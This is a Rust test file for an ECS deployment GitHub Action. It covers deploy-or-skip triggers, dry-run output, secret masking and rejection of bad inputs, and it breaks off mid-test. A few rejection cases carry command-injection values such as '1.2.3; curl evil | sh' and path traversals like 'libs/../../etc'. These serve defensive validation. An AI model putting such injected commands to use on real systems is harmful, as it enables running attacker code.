//! The foundation through the real binary: every trigger row (deploy or skip, with app, version
//! and reason in the outputs), the dry-run plan of the monorepo example, and bad inputs that must
//! each fail with a clear message, exit 1, no panic and no request to the AWS endpoint.
//!
//! AWS is a trap here: `AWS_ENDPOINT_URL` points at a TCP listener on 127.0.0.1 that counts
//! connections. Runs that must not touch AWS assert it saw none.

use std::path::Path;

use crate::support::{AwsTrap, BinOutput, BinRun, fixture, repo_root};

const SHA: &str = "1a2b3c4d5e6f708192a3b4c5d6e7f80912345678";
const REGISTRY: &str = "123456789012.dkr.ecr.ap-northeast-2.amazonaws.com";

/// A run against the monorepo fixture as the runner would start it, with `env` on top.
fn run(trap: &AwsTrap, event: Option<(&str, &str)>, env: &[(&str, &str)]) -> BinOutput {
    let mut r = BinRun::new()
        .cwd(repo_root())
        .envs(trap.env())
        .env("GITHUB_WORKSPACE", fixture("monorepo"))
        .env("GITHUB_SHA", SHA)
        .env("GITHUB_REPOSITORY", "acme/shop")
        .env("GITHUB_RUN_ID", "4242")
        .env("INPUT_REGISTRY", REGISTRY);
    if let Some((name, file)) = event {
        r = r
            .env("GITHUB_EVENT_NAME", name)
            .env("GITHUB_EVENT_PATH", fixture(Path::new("events").join(file)));
    }
    for (k, v) in env {
        r = r.env(k, v);
    }
    r.run()
}

fn dry(trap: &AwsTrap, event: (&str, &str), env: &[(&str, &str)]) -> BinOutput {
    let mut all = vec![("INPUT_DRY-RUN", "true")];
    all.extend_from_slice(env);
    run(trap, Some(event), &all)
}

#[track_caller]
fn assert_deploys(out: &BinOutput, app: &str, version: &str) {
    out.assert_success();
    assert_eq!(out.output("skipped"), Some("false"), "{out}");
    assert_eq!(out.output("app"), Some(app), "{out}");
    assert_eq!(out.output("version"), Some(version), "{out}");
    assert_eq!(out.output("status"), Some("succeeded"), "{out}");
}

#[track_caller]
fn assert_skips(out: &BinOutput, reason_part: &str) {
    out.assert_success();
    assert_eq!(out.output("skipped"), Some("true"), "{out}");
    assert_eq!(out.output("status"), Some("skipped"), "{out}");
    let reason = out.output("skip-reason").unwrap_or_default();
    assert!(
        reason.contains(reason_part),
        "skip-reason {reason:?} lacks {reason_part:?}\n{out}"
    );
    // The run's page says why: a notice annotation, and the job summary.
    assert!(
        out.stdout
            .lines()
            .any(|l| l.starts_with("::notice::skipped: ") && l.contains(reason_part)),
        "a ::notice:: names the skip reason\n{out}"
    );
    assert!(
        out.summary.contains(reason_part),
        "the summary says why\n{out}"
    );
}

#[test]
fn a_merged_release_pr_deploys_the_app_its_branch_names() {
    let trap = AwsTrap::start();
    let out = dry(&trap, ("pull_request", "pr-merged-release-web1.json"), &[]);
    assert_deploys(&out, "web1", "1.2.3");
    assert_eq!(
        out.output("image"),
        Some(format!("{REGISTRY}/web1:v1.2.3").as_str())
    );
    let out = dry(&trap, ("pull_request", "pr-merged-release-web2.json"), &[]);
    assert_deploys(&out, "web2", "2.0.1");
    assert_eq!(
        trap.hits(),
        0,
        "a dry run without a service reads nothing from AWS"
    );
}

#[test]
fn pull_requests_that_are_not_merged_releases_into_main_skip_with_a_reason() {
    let trap = AwsTrap::start();
    let rows = [
        (
            "pr-closed-unmerged.json",
            "PR #2 was closed without merging",
        ),
        ("pr-merged-other-base.json", "merged into develop, not main"),
        (
            "pr-merged-feature-branch.json",
            "feature/login, which is not a release branch",
        ),
        ("pr-labeled.json", "PR #2 was labeled, not merged"),
        ("pr-opened.json", "PR #2 was opened, not merged"),
        ("pr-merged-fork.json", "came from the fork mallory/shop"),
    ];
    for (file, reason) in rows {
        assert_skips(&dry(&trap, ("pull_request", file), &[]), reason);
    }
    assert_eq!(trap.hits(), 0);
}

#[test]
fn a_release_of_another_app_skips_when_the_step_names_its_app() {
    let trap = AwsTrap::start();
    let out = dry(
        &trap,
        ("pull_request", "pr-merged-release-web2.json"),
        &[("INPUT_APP", "web1")],
    );
    assert_skips(
        &out,
        "PR #3 releases web2 (release/web2); this step deploys web1",
    );
}

#[test]
fn workflow_dispatch_deploys_latest_or_an_explicit_existing_version() {
    let trap = AwsTrap::start();
    let out = dry(
        &trap,
        ("workflow_dispatch", "workflow-dispatch-latest.json"),
        &[("INPUT_APP", "web1")],
    );
    assert_deploys(&out, "web1", "1.2.3");
    let out = dry(
        &trap,
        ("workflow_dispatch", "workflow-dispatch-version.json"),
        &[("INPUT_APP", "web1")],
    );
    assert_deploys(&out, "web1", "1.2.0");
    assert_eq!(
        out.output("image"),
        Some(format!("{REGISTRY}/web1:v1.2.0").as_str())
    );
    assert!(
        out.stdout
            .contains("none: the existing tag v1.2.0 is deployed"),
        "{out}"
    );
    let out = dry(
        &trap,
        ("workflow_dispatch", "workflow-dispatch-app-web2.json"),
        &[],
    );
    assert_deploys(&out, "web2", "2.0.1");
    // The `version` input overrides the event's own input.
    let out = dry(
        &trap,
        ("workflow_dispatch", "workflow-dispatch-version.json"),
        &[("INPUT_APP", "web1"), ("INPUT_VERSION", "latest")],
    );
    assert_deploys(&out, "web1", "1.2.3");
}

#[test]
fn a_release_tag_push_deploys_the_tag_version_and_a_mismatch_names_both() {
    let trap = AwsTrap::start();
    let out = dry(
        &trap,
        ("push", "push-tag-v1.2.3.json"),
        &[("INPUT_APP", "web1")],
    );
    assert_deploys(&out, "web1", "1.2.3");
    let out = dry(
        &trap,
        ("push", "push-tag-v9.9.9.json"),
        &[("INPUT_APP", "web1")],
    );
    out.assert_code(1);
    assert!(
        out.stdout
            .contains("tag v9.9.9 says version 9.9.9, but apps/web1/package.json says 1.2.3"),
        "{out}"
    );
    assert_eq!(out.output("status"), Some("failed"));
    assert_skips(
        &dry(&trap, ("push", "push-tag-not-release.json"), &[]),
        "not a release tag",
    );
    assert_skips(
        &dry(&trap, ("push", "push-tag-deleted.json"), &[]),
        "was deleted",
    );
    assert_eq!(trap.hits(), 0);
}

#[test]
fn a_push_to_the_base_branch_deploys_by_default_and_another_branch_only_with_deploy_on_push() {
    let trap = AwsTrap::start();
    let web1 = ("INPUT_APP", "web1");
    // A step copied from the aws-actions steps under `on: push` deploys, as they do.
    let out = dry(&trap, ("push", "push-branch-main.json"), &[web1]);
    assert_deploys(&out, "web1", "1.2.3");
    assert_skips(
        &dry(&trap, ("push", "push-branch-feature.json"), &[web1]),
        "push to feature/login; by default only a push to base-branch (main) deploys",
    );
    let out = dry(
        &trap,
        ("push", "push-branch-feature.json"),
        &[web1, ("INPUT_DEPLOY-ON", "push")],
    );
    assert_deploys(&out, "web1", "1.2.3");
    assert_skips(
        &dry(
            &trap,
            ("push", "push-branch-main.json"),
            &[web1, ("INPUT_DEPLOY-ON", "pull-request-merged")],
        ),
        "deploy-on does not include push or push-to-base-branch",
    );
}

#[test]
fn other_events_skip_cleanly() {
    let trap = AwsTrap::start();
    assert_skips(
        &dry(&trap, ("issues", "issues-opened.json"), &[]),
        "event issues does not deploy",
    );
}

#[test]
fn the_dry_run_of_the_monorepo_example_prints_the_plan_and_the_task_definition_diff() {
    let trap = AwsTrap::start();
    let out = BinRun::new()
        .cwd(repo_root())
        .envs(trap.env())
        .args([
            "--dry-run",
            "--event",
            "fixtures/events/pr-merged-release-web1.json",
            "--event-name",
            "pull_request",
            "--workspace",
            "fixtures/monorepo",
            "--config",
            ".github/ecs-deploy.yml",
            "--sha",
            SHA,
        ])
        .env_remove("GITHUB_OUTPUT")
        .env_remove("GITHUB_STEP_SUMMARY")
        .run();
    out.assert_success();
    // The live service cannot be read (the trap answers nothing): the plan says so and goes on.
    let stdout: String = out
        .stdout
        .lines()
        .filter(|l| !l.starts_with("could not"))
        .map(|l| format!("{l}\n"))
        .collect();
    insta::assert_snapshot!("monorepo_dry_run", stdout);
}

/// The arguments `scripts/demo.sh --dry-run` gives the binary (`--dry-run` and the example
/// workspace, then the words of its `example=( ... )` list), so the test below runs exactly the
/// README's first command in its dry-run form.
fn demo_script_args() -> Vec<String> {
    let script = std::fs::read_to_string(repo_root().join("scripts/demo.sh")).expect("demo.sh");
    assert!(
        script.contains(
            r#"exec "$bin" --dry-run --workspace fixtures/monorepo "${example[@]}" "${args[@]}""#
        ),
        "demo.sh --dry-run runs the binary on its example list"
    );
    let list = script
        .split("\nexample=(\n")
        .nth(1)
        .and_then(|rest| rest.split("\n)\n").next())
        .expect("demo.sh has an example=( ... ) list");
    ["--dry-run", "--workspace", "fixtures/monorepo"]
        .into_iter()
        .chain(list.split_whitespace())
        .map(str::to_string)
        .collect()
}

#[test]
fn the_readmes_first_command_plans_web1_with_no_aws_settings_at_all() {
    // As scripts/demo.sh runs it: every AWS_* dropped, no config files, no instance metadata.
    let args = demo_script_args();
    assert!(args.contains(&"--dry-run".to_string()), "{args:?}");
    let out = BinRun::new()
        .cwd(repo_root())
        .args(&args)
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .env("AWS_CONFIG_FILE", "/dev/null")
        .env("AWS_SHARED_CREDENTIALS_FILE", "/dev/null")
        .env_remove("GITHUB_OUTPUT")
        .env_remove("GITHUB_STEP_SUMMARY")
        .timeout(std::time::Duration::from_secs(60))
        .run();
    out.assert_success();
    assert!(out.stdout.contains("App web1"), "{out}");
    assert!(
        out.stdout
            .contains("version:     1.2.3 (from apps/web1/package.json)"),
        "{out}"
    );
    assert!(
        out.stdout.contains("could not read the live service"),
        "it says what it could not read: {out}"
    );
    assert!(
        out.stdout.contains(
            "+      \"image\": \"123456789012.dkr.ecr.ap-northeast-2.amazonaws.com/web1:v1.2.3\","
        ),
        "{out}"
    );
    assert!(
        out.stdout
            .contains("dry run: nothing was built, pushed, registered or updated"),
        "{out}"
    );
}

/// The README's first command as a user runs it: `scripts/demo.sh` starts moto (the test bed's)
/// and a Slack recorder on 127.0.0.1, creates the example's service, and really deploys web1:
/// register, update, wait, the job summary, the outputs and the Slack message, all printed; then
/// it stops what it started. The binary is the one cargo built for this test
/// (`ECS_DEPLOY_DEMO_BIN`): a `cargo build` inside `cargo test` would wait on cargo's lock.
#[test]
fn the_readmes_first_command_really_deploys_the_example_to_moto_and_cleans_up() {
    let started = std::time::Instant::now();
    let out = BinRun::new()
        .program(repo_root().join("scripts/demo.sh"))
        .cwd(repo_root())
        .env("ECS_DEPLOY_DEMO_BIN", env!("CARGO_BIN_EXE_ecs-deploy"))
        // A shell's AWS settings must not reach the demo: it drops them itself.
        .env("AWS_PROFILE", "someone-elses")
        .env("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
        .timeout(std::time::Duration::from_secs(120))
        .run();
    out.assert_success();
    let elapsed = started.elapsed();
    let text = &out.stdout;
    for expected in [
        // The service the demo made, and the deploy through the binary.
        "[demo] moto: cluster prod, service web1 on web1:1 \
         (123456789012.dkr.ecr.ap-northeast-2.amazonaws.com/web1:v1.2.2), 2 tasks",
        "Trigger: PR #2 merged: release/web1 → main",
        "web1: registered web1:2 (web1 → 123456789012.dkr.ecr.ap-northeast-2.amazonaws.com/web1:v1.2.3)",
        "web1: service web1 updated to web1:2; deployment ecs-svc/",
        "web1: [   0 s] running 2/2, pending 0, rollout COMPLETED",
        "status: succeeded",
        // The job summary, the outputs, the Slack message as the recorder got it.
        "=== the job summary (GITHUB_STEP_SUMMARY) ===\n## ✅ ECS deploy: succeeded",
        "task-definition-arn: arn:aws:ecs:ap-northeast-2:123456789012:task-definition/web1:2",
        "previous-task-definition-arn: arn:aws:ecs:ap-northeast-2:123456789012:task-definition/web1:1",
        "deployment-kind: rolling",
        "[slack recorder] POST /services/T000/B000/demo",
        "\"text\": \"✅ web1 v1.2.3 deployed\"",
        // Where the service stands afterwards, read back from moto.
        "[demo] service prod/web1 now: task definition web1:2",
        "[demo]   image:    123456789012.dkr.ecr.ap-northeast-2.amazonaws.com/web1:v1.2.3",
        "[demo]   revisions registered: web1:1, web1:2",
        "[demo] ecs-deploy exited 0",
    ] {
        assert!(text.contains(expected), "no `{expected}` in:\n{out}");
    }
    let all = format!("{}{}", out.stdout, out.stderr).to_lowercase();
    for noise in ["credential", "imds", "traceback", "::error"] {
        assert!(
            !all.contains(noise),
            "`{noise}` in the demo's output:\n{out}"
        );
    }
    // What it started is stopped: moto's port answers no more.
    let port: u16 = text
        .split("moto (a local AWS) on http://127.0.0.1:")
        .nth(1)
        .and_then(|rest| rest.split(',').next())
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("the demo names moto's port:\n{out}"));
    assert!(
        std::net::TcpStream::connect(("127.0.0.1", port)).is_err(),
        "moto still listens on {port} after the demo"
    );
    eprintln!("scripts/demo.sh took {elapsed:?}");
}

#[test]
fn the_job_summary_and_outputs_are_written_for_a_dry_run() {
    let trap = AwsTrap::start();
    let out = dry(
        &trap,
        ("pull_request", "pr-merged-release-web1.json"),
        &[("INPUT_CONFIG", ".github/ecs-deploy.yml")],
    );
    out.assert_success();
    assert!(
        out.summary.contains("ECS deploy (dry run): succeeded"),
        "{out}"
    );
    assert!(out.summary.contains("| web1 | 1.2.3 |"), "{out}");
    // The plan's diff is in the summary too, for whoever reviews the run.
    assert!(
        out.summary
            .contains("<details open><summary>web1: what the deploy would do</summary>"),
        "{out}"
    );
    assert!(
        out.summary
            .contains(&format!("+      \"image\": \"{REGISTRY}/web1:v1.2.3\",")),
        "{out}"
    );
    let results: serde_json::Value =
        serde_json::from_str(out.output("results").unwrap_or("null")).expect("results is JSON");
    assert_eq!(results[0]["app"], "web1");
    assert_eq!(results[0]["image"], format!("{REGISTRY}/web1:v1.2.3"));
    // Every run writes the matrix of the apps it deploys, not only plan-only ones.
    assert_eq!(
        out.output("matrix"),
        Some(r#"{"include":[{"app":"web1","version":"1.2.3","cluster":"prod","service":"web1"}]}"#),
        "{out}"
    );
}

#[test]
fn secrets_are_masked_before_anything_else_is_printed() {
    let trap = AwsTrap::start();
    let secret = "https://hooks.slack.test/services/T000/B000/SECRET123";
    let out = dry(
        &trap,
        ("pull_request", "pr-merged-release-web1.json"),
        &[
            ("INPUT_SLACK-WEBHOOK-URL", secret),
            ("INPUT_GITHUB-TOKEN", "ghp_testtoken"),
        ],
    );
    out.assert_success();
    let first = out.stdout.lines().next().unwrap_or_default();
    assert!(first.starts_with("::add-mask::"), "{out}");
    assert!(out.stdout.contains(&format!("::add-mask::{secret}")));
    assert!(out.stdout.contains("::add-mask::ghp_testtoken"));
    let unmasked = out
        .stdout
        .lines()
        .filter(|l| !l.starts_with("::add-mask::"))
        .any(|l| l.contains("SECRET123") || l.contains("ghp_testtoken"));
    assert!(!unmasked && !out.stderr.contains("SECRET123"), "{out}");
}

#[test]
fn loose_versions_deploy_with_version_format_loose() {
    let trap = AwsTrap::start();
    let out = dry(
        &trap,
        ("pull_request", "pr-merged-release-web1.json"),
        &[
            FIXTURES_WORKSPACE,
            FIXTURES_DOCKERFILE,
            ("INPUT_PACKAGE-JSON", "package-json/loose.json"),
            ("INPUT_VERSION-FORMAT", "loose"),
        ],
    );
    assert_deploys(&out, "web1", "v2026.11.21");
    assert_eq!(
        out.output("image"),
        Some(format!("{REGISTRY}/web1:v2026.11.21").as_str())
    );
}

#[test]
fn build_metadata_is_mapped_to_a_valid_tag_and_said() {
    let trap = AwsTrap::start();
    let out = dry(
        &trap,
        ("pull_request", "pr-merged-release-web1.json"),
        &[
            FIXTURES_WORKSPACE,
            FIXTURES_DOCKERFILE,
            ("INPUT_PACKAGE-JSON", "package-json/build-metadata.json"),
        ],
    );
    assert_deploys(&out, "web1", "1.2.3+build.5");
    assert_eq!(
        out.output("image"),
        Some(format!("{REGISTRY}/web1:v1.2.3_build.5").as_str())
    );
    assert!(out.stdout.contains("'+' is not allowed"), "{out}");
}

#[test]
fn a_prerelease_is_tagged_with_its_version_and_the_sha_but_never_latest() {
    let trap = AwsTrap::start();
    let out = dry(
        &trap,
        ("pull_request", "pr-merged-release-web1.json"),
        &[
            FIXTURES_WORKSPACE,
            FIXTURES_DOCKERFILE,
            ("INPUT_PACKAGE-JSON", "package-json/prerelease.json"),
        ],
    );
    assert_deploys(&out, "web1", "1.3.0-rc.1");
    assert!(
        out.stdout
            .contains("tags:        v1.3.0-rc.1, sha-1a2b3c4\n"),
        "no latest for a prerelease: {out}"
    );
}

#[test]
fn a_package_json_with_a_utf8_bom_is_read() {
    let trap = AwsTrap::start();
    let pkg = fixture("package-json/bom.json");
    let bytes = std::fs::read(&pkg).expect("bom.json");
    assert!(
        bytes.starts_with(b"\xEF\xBB\xBF"),
        "the fixture has its BOM"
    );
    let out = dry(
        &trap,
        ("pull_request", "pr-merged-release-web1.json"),
        &[
            FIXTURES_WORKSPACE,
            FIXTURES_DOCKERFILE,
            ("INPUT_PACKAGE-JSON", "package-json/bom.json"),
        ],
    );
    assert_deploys(&out, "web1", "1.2.3");
}

/// One bad input: the env to add (or an event), and a part of the message that names it.
struct Bad {
    env: Vec<(&'static str, String)>,
    event: Option<(&'static str, String)>,
    args: Vec<&'static str>,
    expect: &'static str,
}

fn bad(env: &[(&'static str, &str)], expect: &'static str) -> Bad {
    Bad {
        env: env.iter().map(|(k, v)| (*k, v.to_string())).collect(),
        event: Some(("pull_request", "pr-merged-release-web1.json".into())),
        args: Vec::new(),
        expect,
    }
}

fn bad_event(
    name: &'static str,
    file: &str,
    env: &[(&'static str, &str)],
    expect: &'static str,
) -> Bad {
    Bad {
        event: Some((name, file.to_string())),
        ..bad(env, expect)
    }
}

/// A fixture's path as an input gives it: relative to the workspace of the bad-input cases
/// (`fixtures/`, see [`FIXTURES_WORKSPACE`]), since input paths must stay inside the workspace.
fn fx(rel: &str) -> String {
    rel.to_string()
}

/// Runs a case in `fixtures/` as the workspace, so the package.json, task definition and AppSpec
/// fixtures are inside it (paths outside the workspace are refused).
const FIXTURES_WORKSPACE: (&str, &str) = (
    "GITHUB_WORKSPACE",
    concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures"),
);

/// web1's Dockerfile, for a case run in [`FIXTURES_WORKSPACE`].
const FIXTURES_DOCKERFILE: (&str, &str) = ("INPUT_DOCKERFILE", "monorepo/apps/web1/Dockerfile");

#[test]
fn errors_about_a_file_annotate_it_with_its_line_and_column() {
    let ws = tempfile::tempdir().expect("workspace");
    crate::support::copy_tree(&fixture("monorepo"), ws.path());
    let put = |rel: &str, fixture_file: &str| {
        let to = ws.path().join(rel);
        std::fs::create_dir_all(to.parent().expect("parent")).expect("dir");
        std::fs::copy(fixture(fixture_file), to).expect("copy fixture");
    };
    put("broken/invalid/package.json", "package-json/invalid.json");
    put(
        "broken/number/package.json",
        "package-json/version-number.json",
    );
    put("broken/v/package.json", "package-json/v-prefixed.json");
    put("deploy/not-json.json", "task-definitions/not-json.json");
    put("deploy/no-family.json", "task-definitions/no-family.json");
    put("deploy/appspec-broken.yml", "appspec-broken.yml");
    put(".github/unknown-key.yml", "config-unknown-key.yml");
    std::fs::write(
        ws.path().join(".github/bad-default.yml"),
        "defaults:\n  cluster: prod\n  wait-for-minutes: soon\napps:\n  web1:\n    service: web1\n",
    )
    .expect("write config");
    let service = ("INPUT_SERVICE", "web1");
    let cases: &[(&[(&str, &str)], &str)] = &[
        // serde_json's place: the end of the cut-off file (line 4, no column).
        (
            &[("INPUT_PACKAGE-JSON", "broken/invalid/package.json")],
            "::error file=broken/invalid/package.json,line=4,title=",
        ),
        // The "version" key's line for a version that is not a string, or not valid.
        (
            &[("INPUT_PACKAGE-JSON", "broken/number/package.json")],
            "::error file=broken/number/package.json,line=3,col=3,title=",
        ),
        (
            &[("INPUT_PACKAGE-JSON", "broken/v/package.json")],
            "::error file=broken/v/package.json,line=3,col=3,title=",
        ),
        (
            &[service, ("INPUT_TASK-DEFINITION", "deploy/not-json.json")],
            "::error file=deploy/not-json.json,line=1,col=3,title=",
        ),
        // Valid JSON without a family: the file, no line.
        (
            &[service, ("INPUT_TASK-DEFINITION", "deploy/no-family.json")],
            "::error file=deploy/no-family.json,title=",
        ),
        (
            &[
                service,
                ("INPUT_CODEDEPLOY-APPSPEC", "deploy/appspec-broken.yml"),
            ],
            "::error file=deploy/appspec-broken.yml,line=3,col=1,title=",
        ),
        (
            &[("INPUT_CONFIG", ".github/unknown-key.yml")],
            "::error file=.github/unknown-key.yml,line=3,col=5,title=",
        ),
        // A refused value of the defaults points at its line in the defaults.
        (
            &[
                ("INPUT_CONFIG", ".github/bad-default.yml"),
                ("INPUT_APP", "web1"),
            ],
            "::error file=.github/bad-default.yml,line=3,col=3,title=",
        ),
        // A file that is not there is still the file the error is about.
        (
            &[service, ("INPUT_TASK-DEFINITION", "deploy/missing.json")],
            "::error file=deploy/missing.json,title=",
        ),
    ];
    for (env, expect) in cases {
        let trap = AwsTrap::start();
        let mut r = BinRun::new()
            .cwd(repo_root())
            .envs(trap.env())
            .env("GITHUB_WORKSPACE", ws.path())
            .env("GITHUB_SHA", SHA)
            .env("INPUT_REGISTRY", REGISTRY)
            .env("GITHUB_EVENT_NAME", "pull_request")
            .env(
                "GITHUB_EVENT_PATH",
                fixture("events/pr-merged-release-web1.json"),
            );
        for (k, v) in *env {
            r = r.env(k, v);
        }
        let out = r.run();
        out.assert_code(1);
        let line = crate::preflight::the_error(&out);
        assert!(line.starts_with(expect), "{env:?}: {line}\n{out}");
        assert_eq!(trap.hits(), 0, "{out}");
    }
}

#[test]
fn bad_inputs_fail_with_a_clear_message_exit_1_and_no_aws_request() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let broken_event = tmp.path().join("broken.json");
    std::fs::write(&broken_event, "{\"action\": \"closed\", ").expect("write");
    let wrong_shape = tmp.path().join("wrong-shape.json");
    std::fs::write(&wrong_shape, "{\"action\": \"closed\", \"number\": 1}").expect("write");
    let broken = broken_event.to_string_lossy().into_owned();
    let wrong = wrong_shape.to_string_lossy().into_owned();

    let cases: Vec<Bad> = vec![
        bad(
            &[("INPUT_DEPLOYMENT", "bluegreen")],
            "accepted values: auto, rolling, codedeploy, ecs-blue-green",
        ),
        bad(
            &[("INPUT_VERSION-FORMAT", "calver")],
            "input `version-format` has the value \"calver\"",
        ),
        bad(
            &[("INPUT_CACHE", "s3")],
            "input `cache` has the value \"s3\"",
        ),
        bad(
            &[("INPUT_DEPLOY-ON", "merge")],
            "input `deploy-on` has the value \"merge\"",
        ),
        bad(
            &[("INPUT_WAIT-FOR-MINUTES", "soon")],
            "whole number of minutes",
        ),
        bad(
            &[("INPUT_WAIT-FOR-MINUTES", "0")],
            "whole number of minutes",
        ),
        bad(
            &[("INPUT_TAG-LATEST", "yes")],
            "input `tag-latest` has the value \"yes\"",
        ),
        bad(
            &[("INPUT_ROLLBACK-ON-FAILURE", "on")],
            "input `rollback-on-failure`",
        ),
        bad(
            &[("INPUT_BUILD-ARGS", "NODE_ENV")],
            "input `build-args` has the value \"line 1\"",
        ),
        bad(
            &[("INPUT_ENVIRONMENT-VARIABLES", "1BAD=x")],
            "keys use letters",
        ),
        bad(&[("INPUT_PLATFORM", "amd64")], "use os/arch"),
        bad(&[("INPUT_TAG-PREFIX", "v/")], "input `tag-prefix`"),
        bad(
            &[("INPUT_REGISTRY-USERNAME", "bob")],
            "registry-username and registry-password go together",
        ),
        bad(
            &[("INPUT_SLACK-BOT-TOKEN", "xoxb-1")],
            "input `slack-channel` is required",
        ),
        bad(
            &[("INPUT_SLACK-WEBHOOK-URL", "hooks.slack.com/x")],
            "input `slack-webhook-url`",
        ),
        bad(
            &[("INPUT_APP", "web 1")],
            "input `app` has the value \"web 1\"",
        ),
        bad(&[("INPUT_CLUSTER", "my cluster")], "input `cluster`"),
        bad(
            &[
                ("INPUT_SERVICE", "web1"),
                ("INPUT_RUN-TASK-COMMAND", "[\"migrate\""),
            ],
            "input `run-task-command`",
        ),
        bad(
            &[
                ("INPUT_IMAGE", "registry.example.com/repo:1"),
                ("INPUT_REBUILD", "true"),
            ],
            "has nothing to build",
        ),
        bad(&[("INPUT_APP", "web1,web2")], "several apps need `config`"),
        bad(
            &[("INPUT_PLAN-ONLY", "true"), ("INPUT_DRY-RUN", "true")],
            "plan-only and dry-run both stop before any write",
        ),
        bad(
            &[("INPUT_PATHS", "libs/../../etc")],
            "input `paths` has the value",
        ),
        bad(
            &[("INPUT_CHANGED-ONLY", "true")],
            "input `github-token` is required with changed-only: true",
        ),
        bad(&[("GITHUB_SHA", "not-a-sha")], "GITHUB_SHA"),
        Bad {
            event: None,
            ..bad(&[], "set GITHUB_EVENT_NAME")
        },
        bad_event(
            "pull_request",
            "does-not-exist.json",
            &[],
            "cannot read the GitHub event payload",
        ),
        Bad {
            event: Some(("pull_request", broken)),
            ..bad(&[], "the pull_request event payload")
        },
        Bad {
            event: Some(("pull_request", wrong)),
            ..bad(&[], "missing field `pull_request`")
        },
        bad_event(
            "pull_request",
            "pr-merged-bad-app-name.json",
            &[],
            "is not a valid app name",
        ),
        bad_event(
            "workflow_dispatch",
            "workflow-dispatch-bad-version.json",
            &[("INPUT_APP", "web1")],
            "\"1.2.0 && curl evil\" (from the requested version) is not valid",
        ),
        bad(
            &[("INPUT_PACKAGE-JSON", &fx("package-json/no-version.json"))],
            "has no \"version\" field",
        ),
        bad(
            &[(
                "INPUT_PACKAGE-JSON",
                &fx("package-json/version-number.json"),
            )],
            "\"version\" that is not a string (1.2)",
        ),
        bad(
            &[("INPUT_PACKAGE-JSON", &fx("package-json/version-null.json"))],
            "\"version\" that is not a string (null)",
        ),
        bad(
            &[("INPUT_PACKAGE-JSON", &fx("package-json/invalid.json"))],
            "is not valid JSON",
        ),
        bad(
            &[("INPUT_PACKAGE-JSON", &fx("package-json/empty-file.json"))],
            "is not valid JSON",
        ),
        bad(
            &[("INPUT_PACKAGE-JSON", &fx("package-json/not-object.json"))],
            "is not a JSON object",
        ),
        bad(
            &[("INPUT_PACKAGE-JSON", &fx("package-json/v-prefixed.json"))],
            "without the leading v",
        ),
        bad(
            &[("INPUT_PACKAGE-JSON", &fx("package-json/empty-version.json"))],
            "it is empty",
        ),
        bad(
            &[(
                "INPUT_PACKAGE-JSON",
                &fx("package-json/shell-injection.json"),
            )],
            "\"1.2.3; curl evil | sh\"",
        ),
        bad(
            &[("INPUT_PACKAGE-JSON", &fx("package-json/two-part.json"))],
            "not semver",
        ),
        bad(
            &[("INPUT_PACKAGE-JSON", &fx("package-json/loose.json"))],
            "not semver",
        ),
        bad(
            &[("INPUT_PACKAGE-JSON", "apps/nope/package.json")],
            "cannot read package.json",
        ),
        bad(
            &[
                ("INPUT_SERVICE", "web1"),
                (
                    "INPUT_TASK-DEFINITION",
                    &fx("task-definitions/not-json.json"),
                ),
            ],
            "is not valid JSON",
        ),
        bad(
            &[
                ("INPUT_SERVICE", "web1"),
                (
                    "INPUT_TASK-DEFINITION",
                    &fx("task-definitions/no-containers.json"),
                ),
            ],
            "empty \"containerDefinitions\"",
        ),
        bad(
            &[
                ("INPUT_SERVICE", "web1"),
                (
                    "INPUT_TASK-DEFINITION",
                    &fx("task-definitions/no-family.json"),
                ),
            ],
            "has no \"family\"",
        ),
        bad(
            &[
                ("INPUT_SERVICE", "web1"),
                (
                    "INPUT_TASK-DEFINITION",
                    "monorepo/deploy/web1-task-definition.json",
                ),
                ("INPUT_CONTAINER-NAME", "api"),
            ],
            "no container named \"api\"",
        ),
        bad(
            &[
                ("INPUT_SERVICE", "web2"),
                (
                    "INPUT_TASK-DEFINITION",
                    "monorepo/deploy/web2-task-definition.json",
                ),
            ],
            "several containers (web2, log-router)",
        ),
        bad(
            &[
                ("INPUT_SERVICE", "web1"),
                ("INPUT_TASK-DEFINITION", "monorepo/deploy/missing.json"),
            ],
            "cannot read the task definition file",
        ),
        bad(
            &[
                ("INPUT_SERVICE", "web1"),
                ("INPUT_CODEDEPLOY-APPSPEC", &fx("appspec-broken.yml")),
            ],
            "AppSpec",
        ),
        bad(
            &[("INPUT_CONFIG", &fx("config-unknown-key.yml"))],
            "apps.web1.servce is not a known key",
        ),
        bad(
            &[
                ("INPUT_CONFIG", "monorepo/.github/ecs-deploy.yml"),
                ("INPUT_APP", "web9"),
            ],
            "has no app \"web9\"",
        ),
        bad(
            &[("INPUT_CONFIG", "monorepo/.github/missing.yml")],
            "cannot read the config file",
        ),
        bad(
            &[("INPUT_DOCKERFILE", "monorepo/apps/web1/Dockerfile.missing")],
            "cannot read the Dockerfile",
        ),
        bad(
            &[("INPUT_CONTEXT", "../..")],
            "must be inside the workspace",
        ),
        Bad {
            args: vec!["--bogus"],
            ..bad(&[], "--bogus")
        },
    ];
    assert!(
        cases.len() >= 30,
        "the issue asks for at least 30 distinct bad inputs"
    );
    let mut failures = Vec::new();
    for case in &cases {
        let trap = AwsTrap::start();
        let env: Vec<(&str, &str)> = case.env.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let mut r = BinRun::new()
            .cwd(repo_root())
            .envs(trap.env())
            // The workspace is fixtures/: every fixture a case names is inside it; web1's
            // package.json is the monorepo's unless the case names another.
            .env(FIXTURES_WORKSPACE.0, FIXTURES_WORKSPACE.1)
            .env("INPUT_PACKAGE-JSON", "monorepo/apps/web1/package.json")
            .env(FIXTURES_DOCKERFILE.0, FIXTURES_DOCKERFILE.1)
            .env("GITHUB_SHA", SHA)
            .env("INPUT_REGISTRY", REGISTRY)
            .args(case.args.iter());
        if let Some((name, file)) = &case.event {
            let path = if Path::new(file).is_absolute() {
                Path::new(file).to_path_buf()
            } else {
                fixture(Path::new("events").join(file))
            };
            r = r
                .env("GITHUB_EVENT_NAME", *name)
                .env("GITHUB_EVENT_PATH", path);
        }
        for (k, v) in env {
            r = r.env(k, v);
        }
        let out = r.run();
        let error_lines: Vec<&str> = out
            .stdout
            .lines()
            .filter(|l| l.starts_with("::error"))
            .collect();
        let problems = [
            (out.code != Some(1), "exit code is not 1"),
            (out.stderr.contains("panicked"), "panicked"),
            (error_lines.len() != 1, "not exactly one ::error line"),
            (
                !out.stdout.contains(case.expect) && !out.stderr.contains(case.expect),
